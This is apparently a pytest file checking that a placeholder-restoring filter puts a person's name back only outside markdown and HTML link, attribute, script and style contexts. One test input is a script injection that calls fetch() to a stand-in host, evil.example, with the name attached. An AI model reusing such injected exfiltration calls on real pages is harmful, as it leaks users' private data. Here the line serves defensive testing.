"""Where readings of markup end, and where they only seem to."""

import pytest

from plugins.hiding.restore import RestoreFilter, Restorer

OWN = "https://intra.example/u/PERSON_1"
RESTORER = Restorer({"PERSON_1": "Qadira"}, [OWN])


def restore(text: str) -> str:
    one = RestoreFilter(RESTORER)
    return one.feed(text) + one.flush()


@pytest.mark.parametrize(
    "text",
    [
        '![a](/x "b) c) PERSON_1")',
        '![a](/x "\\") PERSON_1")',
        "![a](<x\\> y) PERSON_1>)",
        "![a](x\ny\n PERSON_1)",
        "![a\nb\nPERSON_1](/x)",
        "[a]: /x 'b\nc\nPERSON_1'",
        "<1~PERSON_1!x@evil.example>",
        "<<img src= PERSON_1>",
        "]](/x PERSON_1)",
        "!![a PERSON_1](/x)",
        "<a\ttitle\n=\n'PERSON_1'>",
        "<a b c=PERSON_1>",
        "<a/b='x'c='PERSON_1'>",
        "<script >PERSON_1",
        f"[a](/x {OWN})",
        "[a]: </x PERSON_1>",
        "[a]: /x  'b PERSON_1'",
        '![a]("b) PERSON_1")',
        "<style/>PERSON_1",
        "<script></scripts PERSON_1",
        "<script>a=1</scripts/;fetch('//evil.example/? PERSON_1')</script>",
        "<style></styles> PERSON_1</style>",
    ],
)
def test_what_some_reader_is_still_inside_of_stays(text: str) -> None:
    assert restore(text) == text


@pytest.mark.parametrize(
    "text",
    [
        "![a] PERSON_1",
        "![a [b] c] PERSON_1",
        "<1 PERSON_1",
        "[1]-PERSON_1",
        "<(PERSON_1)",
        "<!x PERSON_1",
        "[a](x\n \nPERSON_1",
        "![a\n\nPERSON_1",
        "[a](x(y)z) PERSON_1",
        "[a](/x 'b') PERSON_1",
        "[a](</x>) PERSON_1",
        "[a](<\\>>) PERSON_1",
        "[a]: /x 'b' PERSON_1",
        "[a]: </x>\nPERSON_1",
        "[a]:\n\nPERSON_1",
        "<a b='>' c>PERSON_1</a>",
        "<a b=c>PERSON_1</a>",
        "<br/>PERSON_1",
        "<scripts>PERSON_1",
        "<script>x</script>PERSON_1",
        "<script>x</SCRIPT >PERSON_1",
        "<style>x</style/>PERSON_1",
        f"[p]( {OWN} )",
        f"[p](\n{OWN}\t'title')",
        f"[p]:  {OWN}\n",
    ],
)
def test_what_every_reader_is_outside_of_comes_back(text: str) -> None:
    assert restore(text) == text.replace("PERSON_1", "Qadira")
